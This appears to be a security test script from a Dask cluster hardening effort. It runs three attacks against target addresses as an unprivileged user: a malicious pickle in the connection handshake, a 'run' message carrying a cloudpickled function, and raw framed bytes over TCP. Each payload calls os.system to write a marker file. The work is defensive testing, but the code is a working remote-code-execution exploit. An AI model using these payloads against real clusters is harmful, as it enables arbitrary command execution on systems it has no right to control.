"""What the adversarial tester of issue 28 ran as uid 65534, as one script: each attack on
each target address, with an ``os.system`` payload that writes a file (a fresh name per
attack, in a directory only the cluster's user can write). Prints one JSON line: for each
attack and target, what the attacker saw (the text of the refusal, or what answered).

    python attacker.py TARGETS_JSON CERTS_DIR_OR_EMPTY MARKER_DIR
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import sys

import cloudpickle
from distributed.comm import connect
from distributed.protocol import ToPickle
from distributed.security import Security

targets, certs, markers = json.loads(sys.argv[1]), sys.argv[2], sys.argv[3]
sec = None
if certs:  # a copy of the cluster's certificate (how the tester had one: defence in depth)
    sec = Security(require_encryption=True, tls_ca_file=f"{certs}/ca.pem",
                   tls_client_cert=f"{certs}/cert.pem", tls_client_key=f"{certs}/key.pem")
ARGS = sec.get_connection_args("client") if sec else {}
N = [0]


def payload() -> tuple[str, object]:
    N[0] += 1
    marker = os.path.join(markers, f"pwned-{N[0]}.txt")

    class Evil:
        def __reduce__(self):
            return (os.system, (f"id > {marker}",))

    return marker, Evil()


def job(marker: str) -> None:  # a function the server would run
    os.system(f"id > {marker}")


def tell(exc: BaseException) -> str:
    return f"{type(exc).__name__}: {exc}"


async def handshake_pickle(addr: str) -> str:
    """Finding 1: a pickle in the handshake, which Dask's listener unpickled before the gate."""
    _, evil = payload()
    try:
        comm = await connect(addr, timeout=15, handshake_overrides={"x": ToPickle(evil)}, **ARGS)
    except Exception as exc:
        return "connect failed: " + tell(exc)
    try:
        return "answered: " + repr(await asyncio.wait_for(comm.read(), 15))[:800]
    except Exception as exc:
        return tell(exc)
    finally:
        comm.abort()


async def run_op(addr: str) -> str:
    """Findings 1-2: a ``run`` message to the server's own handler (a worker, a nanny)."""
    marker, _ = payload()
    try:
        comm = await connect(addr, timeout=15, **ARGS)
    except Exception as exc:
        return "connect failed: " + tell(exc)
    try:
        await comm.write({"op": "run", "function": cloudpickle.dumps(job),
                          "args": cloudpickle.dumps((marker,)), "wait": True, "reply": True})
        return "answered: " + repr(await asyncio.wait_for(comm.read(), 15))[:800]
    except Exception as exc:
        return tell(exc)
    finally:
        comm.abort()


async def raw_and_close(addr: str) -> str:
    """Finding 3: a large handshake then a ``run`` message, and the socket closed at once
    (its row in /proc/net/tcp is then FIN_WAIT/TIME_WAIT: uid 0, inode 0), over plain TCP."""
    from distributed.comm.tcp import _add_frames_header
    from distributed.comm.utils import to_frames

    marker, evil = payload()
    data = b""
    for msg in ({"compression": None, "python": tuple(sys.version_info[:3]),
                 "pickle-protocol": 5, "pad": "x" * 4_000_000, "x": ToPickle(evil)},
                {"op": "run", "function": cloudpickle.dumps(job),
                 "args": cloudpickle.dumps((marker,)), "wait": True}):
        frames, _, _ = _add_frames_header(await to_frames(msg, context={}))
        data += b"".join(bytes(f) for f in frames)
    host, port = addr.split("://", 1)[1].rsplit(":", 1)
    try:
        s = socket.create_connection((host.strip("[]"), int(port)), timeout=15)
    except Exception as exc:
        return "connect failed: " + tell(exc)
    try:
        s.sendall(data)
    except Exception as exc:
        return tell(exc)
    finally:
        s.close()
    return "sent and closed"


async def main() -> dict:
    out = {"uid": os.getuid()}
    for addr in targets:
        out[f"handshake {addr}"] = await handshake_pickle(addr)
        out[f"run {addr}"] = await run_op(addr)
        if addr.startswith("tcp://"):
            for i in range(2):
                out[f"close {i} {addr}"] = await raw_and_close(addr)
    return out


print(json.dumps(asyncio.run(main())))
